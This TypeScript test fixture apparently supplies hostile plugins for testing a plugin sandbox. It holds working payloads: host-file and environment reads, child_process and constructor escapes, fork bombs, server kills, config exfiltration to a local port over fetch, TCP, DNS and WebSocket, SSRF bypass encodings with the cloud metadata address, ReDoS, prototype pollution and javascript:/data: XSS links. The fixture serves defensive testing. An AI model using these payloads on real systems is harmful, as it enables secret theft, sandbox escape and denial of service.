/** What a hostile plugin is given to aim at; written into its source. */
export interface Targets {
  /** A port of this machine that must never be connected to. */
  readonly port: number;
  /** A file that must not be read; it holds `CANARY`. */
  readonly secretFile: string;
  /** A folder in which nothing may appear. */
  readonly loot: string;
}

export const CANARY = 'canary-7d1c0e';

/** One hostile connector or parser: what its code does, in place of what it should. */
export interface HostilePlugin {
  readonly name: string;
  /** Body of `check(ctx)`. Its answer must not hold the canary. */
  readonly check?: string;
  /** Body of `findings.sync(ctx)`. */
  readonly sync?: string;
  /** Body of a parser's `parse(report)`. */
  readonly parse?: string;
  /** Body of a parser's `recognise(head)`. */
  readonly recognise?: string;
  /** Code at the top level of its manifest. */
  readonly top?: string;
  /** Fields of its connector. */
  readonly card?: string;
  /** Fields of its plugin. */
  readonly plugin?: string;
  /** Further members of its code. */
  readonly code?: string;
  /** A link in its folder. */
  readonly link?: string;
  /** Public fields of its connection. */
  readonly config?: Readonly<Record<string, string>>;
}

const NET = "const { default: net } = await import('node:net');";
const FS = "const { default: fs } = await import('node:fs');";
const tcp = (where: string): string =>
  `${NET} return { identity: String(await new Promise((y, n) => { const s = net.connect(${where}); s.on('connect', () => y('connected')); s.on('error', n); })) };`;
/** Code of a connector whose address is the connection's, as an attacker would fill it in. */
const CARD =
  "baseUrl: '{{base_url}}', permissions: { egress: ['{{base_url}}'] }, credentials: { type: 'object', properties: { base_url: { type: 'string', title: 'Address', format: 'uri' } } },";
const OUTSIDE = { card: CARD, config: { base_url: 'https://api.example.com' } };
const ssrf = (name: string, url: (port: number) => string, port: number): HostilePlugin => ({
  name: `SSRF: ${name}`,
  check: "return { identity: JSON.stringify(await ctx.http.json({ path: '/latest/meta-data' })) };",
  card: CARD,
  config: { base_url: url(port) },
});

/** Reads, writes and programs. */
const escapes = ({ secretFile, loot }: Targets): HostilePlugin[] => [
  {
    name: 'reads a file of the machine',
    check: `${FS} return { identity: fs.readFileSync(${JSON.stringify(secretFile)}, 'utf8') };`,
  },
  {
    name: 'reads by a blob',
    check: `${FS} return { identity: await (await fs.openAsBlob(${JSON.stringify(secretFile)})).text() };`,
  },
  {
    name: 'imports a file of the machine',
    check: `return { identity: Object.values(await import(${JSON.stringify(`file://${secretFile}`)})).join() };`,
  },
  {
    name: 'reads by a link in its folder',
    check: `${FS} return { identity: fs.readFileSync(new URL('./link', import.meta.url), 'utf8') };`,
    link: secretFile,
  },
  { name: 'writes a file', check: `${FS} fs.writeFileSync('${loot}/file', 'x'); return { identity: 'x' };` },
  {
    name: 'writes by SQLite',
    check: `const { DatabaseSync } = await import('node:sqlite'); const d = new DatabaseSync(':memory:'); d.exec("attach '${loot}/db' as x; create table x.t(a)"); return { identity: 'x' };`,
  },
  {
    name: 'writes a report of Node',
    check: `process.report.writeReport('${loot}/report.json'); return { identity: 'x' };`,
  },
  {
    name: 'writes a heap snapshot',
    check: `(await import('node:v8')).writeHeapSnapshot('${loot}/heap'); return { identity: 'x' };`,
  },
  {
    name: 'starts a program',
    check: `(await import('node:child_process')).execSync('touch ${loot}/program'); return { identity: 'x' };`,
  },
  {
    name: 'becomes a program',
    check: `process.execve('/usr/bin/touch', ['touch', '${loot}/execve'], {}); return { identity: 'x' };`,
  },
  {
    name: 'fork bomb',
    check: "const { fork } = await import('node:child_process'); for (;;) fork(new URL(import.meta.url).pathname);",
  },
  {
    name: 'thread bomb',
    check: "const { Worker } = await import('node:worker_threads'); for (;;) new Worker('for (;;);', { eval: true });",
  },
  { name: 'forks by cluster', check: "(await import('node:cluster')).default.fork(); return { identity: 'x' };" },
  { name: 'opens the inspector', check: "(await import('node:inspector')).open(0); return { identity: 'x' };" },
  {
    name: 'loads native code',
    check: "process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'); return { identity: 'x' };",
  },
  { name: 'takes internals of Node', check: "process.binding('process_wrap'); return { identity: 'x' };" },
  {
    name: 'mounts the machine by WASI',
    check:
      "const { WASI } = await import('node:wasi'); new WASI({ version: 'preview1', preopens: { '/': '/' } }); return { identity: 'x' };",
  },
  {
    name: 'reaches for require by a constructor',
    check: `const run = (() => {}).constructor('p', 'return p.getBuiltinModule("child_process").execSync("touch ${loot}/constructor")'); return { identity: String(run(process)) };`,
  },
  { name: 'takes the environment', check: 'return { identity: JSON.stringify(process.env) };' },
  {
    name: 'takes the environment of the server',
    check: `${FS} return { identity: fs.readFileSync('/proc/' + process.ppid + '/environ', 'utf8') };`,
  },
  {
    name: 'ends the server',
    check: "for (const pid of [process.ppid, 0, -1]) process.kill(pid, 'SIGKILL'); return { identity: 'x' };",
  },
  { name: 'ends the server by an inner function', check: "process._kill(process.ppid, 9); return { identity: 'x' };" },
  {
    name: 'slows the server down',
    check: "(await import('node:os')).setPriority(process.ppid, 19); return { identity: 'x' };",
  },
  {
    name: 'switches V8',
    check: "(await import('node:v8')).setFlagsFromString('--allow-natives-syntax'); return { identity: 'x' };",
  },
];

/** Ways out to the network. */
const exfiltrations = ({ port }: Targets): HostilePlugin[] => [
  {
    name: 'fetch',
    check: `return { identity: String((await fetch('http://127.0.0.1:${port}/' + JSON.stringify(ctx.config))).status) };`,
  },
  { name: 'a TCP connection', check: tcp(`${port}, '127.0.0.1'`) },
  { name: 'a Unix socket', check: tcp("'/var/run/docker.sock'") },
  {
    name: 'a datagram',
    check: `const { createSocket } = await import('node:dgram'); await new Promise((y, n) => createSocket('udp4').on('error', n).send('x', ${port}, '127.0.0.1', (e) => (e ? n(e) : y()))); return { identity: 'x' };`,
  },
  {
    name: 'a name that says it',
    check:
      "const dns = await import('node:dns/promises'); return { identity: JSON.stringify(await dns.lookup('stolen.localhost')) };",
  },
  {
    name: 'a resolver of its own',
    check: `const { Resolver } = await import('node:dns/promises'); const r = new Resolver(); r.setServers(['127.0.0.1:${port}']); return { identity: String(await r.resolve4('stolen.example')) };`,
  },
  {
    name: 'a WebSocket',
    check: `await new Promise((y, n) => { const s = new WebSocket('ws://127.0.0.1:${port}'); s.onopen = y; s.onerror = () => n(new Error('refused')); }); return { identity: 'x' };`,
  },
  {
    name: 'a server of its own',
    check: `${NET} await new Promise((y, n) => net.createServer().on('error', n).listen(0, y)); return { identity: 'x' };`,
  },
  {
    name: 'a whole address as path',
    check: `return { identity: JSON.stringify(await ctx.http.json({ path: 'http://127.0.0.1:${port}/' })) };`,
    ...OUTSIDE,
  },
  {
    name: 'an address behind slashes',
    check: `return { identity: JSON.stringify(await ctx.http.json({ path: '/\\\\@127.0.0.1:${port}/../..//127.0.0.1:${port}/', headers: { host: '127.0.0.1' } })) };`,
    ...OUTSIDE,
  },
  { name: 'a secret that is not declared', check: "return { identity: await ctx.reveal('api_token') };" },
  ssrf('IPv4', (at) => `https://127.0.0.1:${at}`, port),
  ssrf('one number', (at) => `https://2130706433:${at}`, port),
  ssrf('hexadecimal', (at) => `https://0x7f.1:${at}`, port),
  ssrf('octal', (at) => `https://0177.0.0.1:${at}`, port),
  ssrf('short', (at) => `https://127.1:${at}`, port),
  ssrf('IPv6', (at) => `https://[::1]:${at}`, port),
  ssrf('IPv4 in IPv6', (at) => `https://[::ffff:7f00:1]:${at}`, port),
  ssrf('a local name', (at) => `https://localhost:${at}`, port),
  ssrf('a name before it', (at) => `https://api.example.com@127.0.0.1:${at}`, port),
  ssrf('the metadata service', () => 'https://169.254.169.254', port),
];

/** Time, memory and the pipe to the host. */
const exhaustions: readonly HostilePlugin[] = [
  { name: 'endless loop', check: 'for (;;);' },
  { name: 'endless loop at its top level', top: 'for (;;);' },
  { name: 'never done with its top level', top: 'await new Promise(() => setInterval(() => {}, 1000));' },
  { name: 'endless chain of promises', check: 'for (;;) await null;' },
  { name: 'a promise that never settles', check: 'await new Promise(() => setInterval(() => {}, 1000));' },
  { name: 'deaf to the end of its time', check: "for (;;) { try { await ctx.store.get('a'); } catch {} }" },
  { name: 'endless recursion', check: 'const f = () => f() + 1; return { identity: String(f()) };' },
  { name: 'regex bomb', check: "return { identity: String(/^(a+)+$/.test('a'.repeat(40) + '!')) };" },
  { name: 'memory bomb of objects', check: 'const a = []; for (;;) a.push(new Array(100_000).fill({}));' },
  { name: 'memory bomb of buffers', check: 'const a = []; for (;;) a.push(Buffer.alloc(50_000_000, 1));' },
  { name: 'ends itself', check: 'process.exit(0);' },
  { name: 'aborts itself', check: 'process.abort();' },
  { name: 'unhandled rejection', check: "void Promise.reject(new Error('later')); await new Promise(() => {});" },
  {
    name: 'a timer that throws',
    check: "setTimeout(() => { throw new Error('later'); }, 10); await new Promise(() => {});",
  },
  {
    name: 'an error that cannot be read',
    check: "throw new Proxy(new Error('x'), { get() { throw new Error('no'); } });",
  },
  {
    name: 'patched globals',
    check:
      "JSON.stringify = () => '{}'; Promise.prototype.then = () => undefined; Array.prototype.push = () => { throw new Error('no'); }; return { identity: 'x' };",
  },
  {
    name: 'pollutes prototypes by its answer',
    check:
      'return JSON.parse(\'{"identity":"x","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}\');',
  },
  { name: 'answers something else', check: 'return { identity: { toString: 7 }, scopes: 3 };' },
  { name: 'an answer without end', check: "return { identity: 'x'.repeat(400_000_000) };" },
  { name: 'an answer that makes itself', check: 'const f = () => ({ toJSON: () => [f(), f()] }); return f();' },
  {
    name: 'an answer nested 100,000 deep',
    check: "let a = []; for (let i = 0; i < 100_000; i += 1) a = [a]; return { identity: 'x', a };",
  },
  { name: 'noise in the pipe', check: `${FS} fs.writeSync(1, 'x'.repeat(5000)); await new Promise(() => {});` },
  {
    name: 'a forged length',
    check: `${FS} fs.writeSync(1, Buffer.from([255, 255, 255, 127])); await new Promise(() => {});`,
  },
  {
    name: 'forged messages',
    check: `${FS} const send = (m) => { const b = Buffer.from(JSON.stringify(m)); const h = Buffer.alloc(4); h.writeUInt32LE(b.length); fs.writeSync(1, Buffer.concat([h, b])); }; send({ t: 'ready', isNetworkCut: true }); send({ t: 'described', plugin: null }); send({ t: 'ask', id: 1, ask: 1, what: 'constructor', args: [] });`,
  },
  { name: 'closes the pipe', check: `${FS} fs.closeSync(1); await new Promise(() => {});` },
  {
    name: 'a flood of lines',
    check: "for (;;) { for (let i = 0; i < 1000; i += 1) ctx.log.info('x'.repeat(1000)); await null; }",
  },
  {
    name: 'a flood of requests',
    check: "await Promise.all(Array.from({ length: 100_000 }, () => ctx.store.get('a'))); return { identity: 'x' };",
  },
  { name: 'prints without end', check: "for (;;) process.stderr.write('x'.repeat(100_000));" },
  {
    name: 'records without end',
    sync: "yield { kind: 'target', id: 'a', name: 'a' }; for (let i = 0; ; i += 1) yield { kind: 'finding', ruleId: 'r' + i, title: 't', type: 'SAST', severity: 'low' };",
  },
  { name: 'records of no kind', sync: "yield null; yield { kind: 'finding' };" },
  {
    name: 'a sync that falls asleep',
    sync: "yield { kind: 'target', id: 'a', name: 'a' }; await new Promise(() => setInterval(() => {}, 1000));",
  },
];

const parsers: readonly HostilePlugin[] = [
  { name: 'parser: endless loop', parse: 'for (;;);' },
  { name: 'parser: endless loop in recognising', recognise: 'for (;;);' },
  { name: 'parser: regex bomb in recognising', recognise: "return /^(a|aa)+$/.test('a'.repeat(60) + '!') ? 1 : 0;" },
  { name: 'parser: claims everything, and more than all', recognise: 'return Number.MAX_VALUE;', parse: 'throw null;' },
  { name: 'parser: sleeps', parse: 'await new Promise(() => setInterval(() => {}, 1000));' },
  {
    name: 'parser: records without end',
    parse:
      "for (let i = 0; ; i += 1) yield { kind: 'finding', ruleId: 'r' + i, title: 't', type: 'SAST', severity: 'low' };",
  },
  {
    name: 'parser: one record of 100 MB',
    parse: "yield { kind: 'finding', ruleId: 'r', title: 'x'.repeat(100_000_000), type: 'SAST', severity: 'low' };",
  },
  { name: 'parser: memory bomb', parse: 'const a = []; for (;;) a.push(new Array(100_000).fill({}));' },
  { name: 'parser: ends itself', parse: 'process.exit(0);' },
];

/** What a manifest may try: it is read, shown and matched against what people enter. */
const manifests = ({ port, loot }: Targets): HostilePlugin[] => [
  {
    name: 'manifest: a pattern that takes for ever',
    card: "credentials: { type: 'object', properties: { name: { type: 'string', pattern: '^(a+)+$' } } },",
  },
  {
    name: 'manifest: a pattern that takes long',
    card: "credentials: { type: 'object', properties: { name: { type: 'string', pattern: '.*.*.*.*.*x' } } },",
  },
  { name: 'manifest: claims to be of us', plugin: "publisher: 'Breakwater Security'," },
  { name: 'manifest: a title that turns around', card: "title: 'buH\\u202etiG'," },
  { name: 'manifest: a link that runs', card: "documentation: 'javascript:alert(1)'," },
  { name: 'manifest: a page as picture', card: "image: 'data:text/html,<script>alert(1)</script>'," },
  { name: 'manifest: any host', card: `permissions: { egress: ['*', '*.com', '127.0.0.1:${port}'] },` },
  {
    name: 'manifest: a rule that runs in the server',
    card: `isConfigured: () => { globalThis.process.getBuiltinModule('fs').writeFileSync('${loot}/rule', 'x'); return true; },`,
    check: "return { identity: 'x' };",
  },
  { name: 'manifest: the id of ours', card: "id: 'github', title: 'GitHub 2'," },
  { name: 'manifest: more than anyone reads', card: "description: 'x'.repeat(100_000_000)," },
  {
    name: 'a scanner that is a shell',
    code: `scanner: { targets: ['url'], detect: async () => ({ version: '1' }), command: () => ({ file: 'sh', args: ['-c', 'touch ${loot}/scanner'], reportPath: 'r', limits: { timeoutMs: 1, memoryMb: 1 } }) },`,
    check: "return { identity: 'x' };",
  },
];

/** Every hostile connector and parser. */
export const hostilePlugins = (targets: Targets): HostilePlugin[] => [
  ...escapes(targets),
  ...exfiltrations(targets),
  ...exhaustions,
  ...parsers,
  ...manifests(targets),
];

/** Source of the three entry points of a hostile plugin. */
export const sourcesOf = (id: string, { check, sync, parse, recognise, top, card, plugin, code }: HostilePlugin) => ({
  manifest: `${top ?? ''}
    const connector = { id: '${id}', title: '${id}', category: 'sast', image: '/images/x.svg', description: 'Hostile.', parser: { tool: '${id}', family: 'SAST' }, ${card ?? ''} };
    export const plugin = { id: '${id}', version: '1.0.0', ${plugin ?? ''} connectors: [connector], importers: [{ tool: '${id}', title: '${id}' }] };`,
  server: `export const server = { pluginId: '${id}', connectors: { '${id}': {
    check: async (ctx) => { ${check ?? "return { identity: 'x' };"} },
    ${sync === undefined ? '' : `findings: { async *sync(ctx) { ${sync} } },`}
    ${code ?? ''}
  } } };`,
  parsers: `export const parsers = [{ tool: '${id}', formats: ['json'], recognise: (head) => { ${recognise ?? 'return 0;'} }, async *parse(report) { ${parse ?? ''} } }];`,
});
